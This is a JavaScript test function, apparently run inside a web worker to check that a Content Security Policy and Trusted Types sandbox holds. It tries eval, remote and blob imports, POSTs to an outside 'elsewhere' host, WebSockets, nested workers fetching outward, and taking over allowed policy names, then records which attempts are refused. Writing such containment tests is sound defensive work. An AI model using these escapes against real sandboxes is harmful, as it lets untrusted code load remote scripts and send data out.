// What a worker that is up to no good would try: given [elsewhere, own], two addresses, returns {name: what came of it}.
// "done" where it succeeded, "refused: why" where it did not. Run inside a worker.
async ([elsewhere, own]) => {
  // The debugger's own evaluation is let through by the policy; what a timer runs is not.
  await new Promise((resolve) => setTimeout(resolve, 1));

  const blob = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
  const opened = (source, good, bad) => new Promise((resolve, reject) => {
    source[`on${good}`] = resolve;
    source[`on${bad}`] = () => reject(new Error(`on${bad}`));
  });
  const request = () => {
    const asked = new XMLHttpRequest();
    asked.open("POST", `${elsewhere}xhr`);
    const answered = opened(asked, "load", "error");
    asked.send("words");
    return answered;
  };
  const timer = async () => {
    setTimeout("self.timerRan = true", 0);
    await new Promise((resolve) => setTimeout(resolve, 30));
    if (!self.timerRan) throw new Error("the text was not run");
  };
  // Where Trusted Types are, as an address that is trusted if one can be had: by a policy whose name is allowed.
  const trusted = (url) => {
    for (const name of ["lora-lab", "dompurify"]) {
      try {
        self.made ??= self.trustedTypes?.createPolicy(name, { createScriptURL: (text) => text });
      } catch {} // the name is taken: as it is, then
    }
    return self.made?.createScriptURL(url) ?? url;
  };
  const answerOf = async (worker) => {
    const { data } = await opened(worker, "message", "error");
    worker.terminate();
    return data;
  };
  // A worker inside this one may exist where it has the policy as well: what it then does counts.
  const throughNested = async () => {
    const inside = `fetch(${JSON.stringify(`${elsewhere}nested`)}).then(() => postMessage("out"), () => postMessage("kept in"))`;
    if (await answerOf(new Worker(trusted(blob(inside)))) !== "out") throw new Error("it was kept in");
  };
  const policy = () => {
    if (!self.trustedTypes) throw new Error("no Trusted Types here");
    trustedTypes.createPolicy("of-a-stranger", {});
  };

  const attempts = {
    "eval": () => eval("1 + 1"),
    "Function": () => new Function("return 1")(),
    "a timer's text": timer,
    "import of another origin": () => import(`${elsewhere}script.js`),
    "import of data:": () => import("data:text/javascript,export default 1"),
    "import of a blob": () => import(blob("export default 1")),
    "importScripts": () => importScripts(trusted(`${elsewhere}script.js`)),
    "fetch": () => fetch(`${elsewhere}fetch`, { method: "POST", body: "words" }),
    "fetch without CORS": () => fetch(`${elsewhere}no-cors`, { mode: "no-cors" }),
    "XMLHttpRequest": request,
    "WebSocket": () => opened(new WebSocket(`${elsewhere.replace("http", "ws")}socket`), "open", "error"),
    "EventSource": () => opened(new EventSource(`${elsewhere}events`), "message", "error"),
    "a worker by its address": () => answerOf(new Worker(trusted(`${own}assets/worker/worker.js?kind=train`), { type: "module" })),
    "a worker from data:": () => answerOf(new Worker(trusted("data:text/javascript,postMessage(1)"))),
    "a worker's fetch": throughNested,
    "another policy": policy,
  };
  const found = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      await attempt();
      found[name] = "done";
    } catch (error) {
      found[name] = `refused: ${error?.message ?? error}`;
    }
  }
  found["fetch of the site itself"] = await fetch(`${own}models/index.json`).then(({ ok }) => ok ? "done" : "not there", String);
  return found;
}
